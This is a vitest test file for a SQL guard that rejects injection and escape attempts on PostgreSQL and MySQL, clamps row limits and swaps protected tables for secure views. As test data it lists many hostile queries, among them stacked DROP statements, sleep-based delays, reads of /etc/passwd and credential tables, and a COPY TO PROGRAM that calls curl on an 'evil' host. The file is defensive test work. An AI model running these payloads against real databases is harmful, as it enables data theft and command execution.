import { describe, expect, it } from "vitest";
import { guardSql, SQL_FORBIDDEN_FUNCTIONS, SQL_REFUSAL_CODES, type SqlDialect, type SqlRefusalCode } from "@/lib/sql";
import { guardOptions, ROW_LIMIT } from "./northwind";

type Dialects = "both" | SqlDialect;

/** Each attempt must be refused with exactly this code. */
const REFUSED: [string, Dialects, string, SqlRefusalCode][] = [
  ["stacked DROP", "both", "select * from orders; drop table orders", "sql_multiple_statements"],
  ["stacked DELETE after a comment", "both", "select 1 /* harmless */; delete from orders", "sql_multiple_statements"],
  [
    "second statement after a line comment's newline",
    "both",
    "select 1 -- x\n; update orders set freight = 0",
    "sql_multiple_statements",
  ],
  ["pg_sleep", "postgresql", "select pg_sleep(10)", "sql_forbidden_function"],
  ["pg_sleep through pg_catalog", "postgresql", "select pg_catalog.pg_sleep(10)", "sql_forbidden_function"],
  ["pg_sleep quoted in upper case", "postgresql", 'select "PG_SLEEP"(1)', "sql_forbidden_function"],
  [
    "pg_sleep in a WHERE subquery",
    "postgresql",
    "select * from orders where order_id in (select pg_sleep(1))",
    "sql_forbidden_function",
  ],
  ["SLEEP", "both", "select sleep(10)", "sql_forbidden_function"],
  ["SLEEP hidden in an IF", "mysql", "select if(1=1, sleep(5), 0) from orders", "sql_forbidden_function"],
  ["BENCHMARK", "mysql", "select benchmark(10000000, md5('x'))", "sql_forbidden_function"],
  ["LOAD_FILE", "mysql", "select load_file('/etc/passwd')", "sql_forbidden_function"],
  ["GET_LOCK", "mysql", "select get_lock('vigil', 10)", "sql_forbidden_function"],
  [
    "error-based leak with EXTRACTVALUE",
    "mysql",
    "select extractvalue(1, concat(0x7e, database()))",
    "sql_forbidden_function",
  ],
  [
    "AES_DECRYPT around the secure views",
    "mysql",
    "select aes_decrypt(home_phone, 'k') from orders",
    "sql_forbidden_function",
  ],
  ["pg_read_file", "postgresql", "select pg_read_file('/etc/passwd')", "sql_forbidden_function"],
  ["pg_ls_dir as a table", "postgresql", "select * from pg_ls_dir('.') as f", "sql_forbidden_function"],
  [
    "set_config",
    "postgresql",
    "select set_config('app.tenant_id', '00000000-0000-0000-0000-000000000000', false)",
    "sql_forbidden_function",
  ],
  ["current_setting", "postgresql", "select current_setting('app.tenant_id')", "sql_forbidden_function"],
  ["lo_import", "postgresql", "select lo_import('/etc/passwd')", "sql_forbidden_function"],
  ["lo_export", "postgresql", "select lo_export(1, '/tmp/x')", "sql_forbidden_function"],
  ["dblink", "postgresql", "select dblink_exec('host=evil', 'drop table x')", "sql_forbidden_function"],
  ["pg_terminate_backend", "postgresql", "select pg_terminate_backend(1)", "sql_forbidden_function"],
  ["pg_advisory_lock", "postgresql", "select pg_advisory_lock(1)", "sql_forbidden_function"],
  ["pg_notify", "postgresql", "select pg_notify('c', 'x')", "sql_forbidden_function"],
  ["txid_current", "postgresql", "select txid_current()", "sql_forbidden_function"],
  ["nextval writes a sequence", "postgresql", "select nextval('orders_seq')", "sql_forbidden_function"],
  [
    "SQL in a string through query_to_xml",
    "postgresql",
    "select query_to_xml('select * from pg_authid', true, true, '')",
    "sql_forbidden_function",
  ],
  ["user-defined function by schema", "both", "select northwind.wipe_everything()", "sql_forbidden_function"],
  ["INTO OUTFILE", "mysql", "select * from orders into outfile '/tmp/orders.csv'", "sql_select_into"],
  ["INTO DUMPFILE", "mysql", "select 'x' into dumpfile '/tmp/x'", "sql_select_into"],
  ["SELECT INTO a new table", "postgresql", "select * into stolen from orders", "sql_select_into"],
  ["SELECT INTO a variable", "mysql", "select freight into @f from orders", "sql_select_into"],
  ["FOR UPDATE", "both", "select * from orders for update", "sql_locking_read"],
  ["FOR SHARE", "postgresql", "select * from orders for share", "sql_locking_read"],
  ["LOCK IN SHARE MODE", "mysql", "select * from orders lock in share mode", "sql_locking_read"],
  ["COPY TO PROGRAM", "postgresql", "copy orders to program 'curl evil'", "sql_not_select"],
  ["writable CTE", "postgresql", "with gone as (delete from orders returning *) select * from gone", "sql_parse_error"],
  ["DO block", "postgresql", "do $$ begin perform pg_sleep(1); end $$", "sql_not_select"],
  ["EXECUTE", "postgresql", "execute stolen_plan", "sql_not_select"],
  ["CALL", "both", "call wipe()", "sql_not_select"],
  ["SET ROLE", "postgresql", "set role postgres", "sql_not_select"],
  ["SET a variable", "mysql", "set @x = 1", "sql_not_select"],
  ["LOCK TABLE", "postgresql", "lock table orders", "sql_not_select"],
  ["BEGIN", "both", "begin", "sql_not_select"],
  ["INSERT", "both", "insert into orders (order_id) values (1)", "sql_not_select"],
  ["UPDATE", "both", "update orders set freight = 0", "sql_not_select"],
  ["DROP", "both", "drop table orders", "sql_not_select"],
  ["TRUNCATE", "both", "truncate table orders", "sql_not_select"],
  ["SHOW", "mysql", "show tables", "sql_not_select"],
  ["pg_catalog", "postgresql", "select * from pg_catalog.pg_authid", "sql_table_not_allowed"],
  [
    "pg_user unqualified (pg_catalog is always on the search path)",
    "postgresql",
    "select usename from pg_user",
    "sql_table_not_allowed",
  ],
  ["information_schema", "both", "select * from information_schema.tables", "sql_table_not_allowed"],
  ["mysql.user", "mysql", "select user, authentication_string from mysql.user", "sql_table_not_allowed"],
  ["performance_schema", "mysql", "select * from performance_schema.threads", "sql_table_not_allowed"],
  [
    "UNION SELECT from a disallowed table",
    "both",
    "select company_name from customers union select usename from pg_shadow",
    "sql_table_not_allowed",
  ],
  [
    "UNION SELECT from another schema",
    "both",
    "select company_name from customers union select email from auth.users",
    "sql_table_not_allowed",
  ],
  [
    "nested subquery to a forbidden table",
    "both",
    "select * from orders where customer_id in (select x from (select x from secrets.keys) k)",
    "sql_table_not_allowed",
  ],
  [
    "CTE over a forbidden table",
    "both",
    "with k as (select * from vigil.api_keys) select * from k",
    "sql_table_not_allowed",
  ],
  [
    "a CTE's name does not shadow a table outside its WITH",
    "both",
    "select * from (with audit_events as (select 1 as x) select * from audit_events) a, audit_events",
    "sql_table_not_allowed",
  ],
  ["quoted name in another case is another table", "postgresql", 'select * from "Orders"', "sql_table_not_allowed"],
  ["unicode-escaped identifier", "postgresql", 'select * from U&"\\006Frders"', "sql_parse_error"],
  ["database-qualified name", "postgresql", "select * from otherdb.northwind.orders", "sql_table_not_allowed"],
  [
    "encrypted column of a protected table",
    "both",
    "select home_phone_enc from northwind.employees",
    "sql_encrypted_column",
  ],
  ["encrypted column through an alias", "both", "select e.home_phone_enc from employees e", "sql_encrypted_column"],
  ["MySQL executable comment", "mysql", "select 1 /*!50000 , sleep(10) */ from orders", "sql_executable_comment"],
  [
    "MySQL optimizer hint",
    "mysql",
    "select /*+ SET_VAR(max_execution_time=0) */ * from orders",
    "sql_executable_comment",
  ],
  ["session variable (the secure views' key)", "mysql", "select @aesKey", "sql_forbidden_variable"],
  ["server variable", "mysql", "select @@datadir", "sql_forbidden_variable"],
  ["bind parameter", "postgresql", "select * from orders where order_id = $1", "sql_forbidden_variable"],
  [
    "parenthesised UNION member cannot be bounded",
    "both",
    "(select order_id from orders) union (select order_id from orders)",
    "sql_unsupported",
  ],
  ["empty", "both", "  -- nothing\n", "sql_empty"],
  ["garbage", "both", "selec * form orders", "sql_parse_error"],
  ["unbalanced", "both", "select (1 from orders", "sql_parse_error"],
  ["too long", "both", `select 1 ${"+ 1 ".repeat(6000)}`, "sql_too_long"],
];

function dialectsOf(which: Dialects): SqlDialect[] {
  return which === "both" ? ["postgresql", "mysql"] : [which];
}

describe("guardSql refuses injection and escape attempts", () => {
  const cases = REFUSED.flatMap(([name, which, sql, code]) =>
    dialectsOf(which).map((dialect) => ({ name: `${name} (${dialect})`, dialect, sql, code })),
  );

  it("covers more than thirty attempts, and every refusal code", () => {
    expect(cases.length).toBeGreaterThan(30);
    expect(new Set(REFUSED.map(([, , , code]) => code))).toEqual(new Set(SQL_REFUSAL_CODES));
  });

  it.each(cases)("$name → $code", ({ dialect, sql, code }) => {
    const result = guardSql(sql, guardOptions(dialect));
    expect(result.ok ? result : result.error.code).toBe(code);
    if (!result.ok) {
      expect(result.error.message).not.toMatch(/\n\s+at |Error:|Expected "/);
    }
  });

  it("refuses every listed function and family on both dialects, whatever its case", () => {
    const names = [...SQL_FORBIDDEN_FUNCTIONS.names, ...SQL_FORBIDDEN_FUNCTIONS.prefixes.map((p) => `${p}probe`)];
    for (const dialect of ["postgresql", "mysql"] as const) {
      for (const name of names) {
        const call = name.toUpperCase() === name ? name.toLowerCase() : name.toUpperCase();
        const result = guardSql(`select ${call}(1) from orders`, guardOptions(dialect));
        expect(result.ok ? `${name} passed` : result.error.code, `${name} on ${dialect}`).toBe(
          "sql_forbidden_function",
        );
      }
    }
  });
});

/** Attempts that become a single bounded SELECT on allowed tables (or on a secure view). */
const NEUTRALISED: [string, Dialects, string, string][] = [
  [
    "a comment hiding a second statement is dropped with the comment",
    "postgresql",
    "select order_id from orders /* ; drop table orders */",
    'SELECT order_id FROM "northwind"."orders" LIMIT 500',
  ],
  [
    "a line comment hiding a second statement",
    "mysql",
    "select order_id from orders -- ; drop table orders",
    "SELECT `order_id` FROM `northwind`.`orders` LIMIT 500",
  ],
  [
    "a huge LIMIT is clamped",
    "postgresql",
    "select * from orders limit 100000000",
    'SELECT * FROM "northwind"."orders" LIMIT 500',
  ],
  [
    "a 64-bit LIMIT is clamped",
    "mysql",
    "select * from orders limit 18446744073709551615",
    "SELECT * FROM `northwind`.`orders` LIMIT 500",
  ],
  [
    "LIMIT ALL is clamped",
    "postgresql",
    "select * from orders limit all",
    'SELECT * FROM "northwind"."orders" LIMIT 500',
  ],
  ["a missing LIMIT is added", "postgresql", "select * from orders", 'SELECT * FROM "northwind"."orders" LIMIT 500'],
  [
    "an OFFSET alone gets a LIMIT",
    "postgresql",
    "select * from orders offset 10",
    'SELECT * FROM "northwind"."orders" LIMIT 500 OFFSET 10',
  ],
  [
    "MySQL's LIMIT offset, count is clamped",
    "mysql",
    "select * from orders limit 10, 99999",
    "SELECT * FROM `northwind`.`orders` LIMIT 10, 500",
  ],
  [
    "a UNION is bounded as a whole",
    "postgresql",
    "select city from customers union select ship_city from orders",
    'SELECT city FROM "northwind"."customers" UNION SELECT ship_city FROM "northwind"."orders" LIMIT 500',
  ],
  [
    "the protected base table becomes its secure view",
    "postgresql",
    "select first_name from employees",
    'SELECT first_name FROM "northwind"."secure_employees" AS "employees" LIMIT 500',
  ],
  [
    "the protected table in upper case on MySQL",
    "mysql",
    "select first_name from NORTHWIND.EMPLOYEES",
    "SELECT `first_name` FROM `northwind`.`secure_employees` AS `EMPLOYEES` LIMIT 500",
  ],
  [
    "bare mixed-case names fold as PostgreSQL folds them",
    "postgresql",
    "select O.Order_ID as Id from Orders O order by Id",
    'SELECT "o".Order_ID AS "id" FROM "northwind"."orders" AS "o" ORDER BY Id ASC LIMIT 500',
  ],
];

describe("guardSql turns what it can into one bounded SELECT", () => {
  const cases = NEUTRALISED.flatMap(([name, which, sql, expected]) =>
    dialectsOf(which).map((dialect) => ({ name: `${name} (${dialect})`, dialect, sql, expected })),
  );

  it.each(cases)("$name", ({ dialect, sql, expected }) => {
    const result = guardSql(sql, guardOptions(dialect));
    expect(result.ok ? result.sql : result.error).toBe(expected);
    if (result.ok) expect(result.limit.rows).toBeLessThanOrEqual(ROW_LIMIT);
  });

  it("says whether the LIMIT was kept, added or clamped", () => {
    const options = guardOptions("postgresql");
    const limits = ["select * from orders limit 20", "select * from orders", "select * from orders limit 9999"].map(
      (sql) => {
        const result = guardSql(sql, options);
        return result.ok ? result.limit : result.error;
      },
    );
    expect(limits).toEqual([
      { rows: 20, action: "kept" },
      { rows: ROW_LIMIT, action: "added" },
      { rows: ROW_LIMIT, action: "clamped" },
    ]);
  });

  it("needs schema-qualified names when it has no table list (pg_catalog resolves bare names first)", () => {
    const options = { dialect: "postgresql" as const, allowedSchemas: ["northwind"], rowLimit: 10 };
    const bare = guardSql("select * from orders", options);
    expect(bare.ok ? bare : bare.error.code).toBe("sql_table_not_allowed");
    const qualified = guardSql("select * from northwind.orders", options);
    expect(qualified.ok && qualified.tables).toEqual(["northwind.orders"]);
  });
});
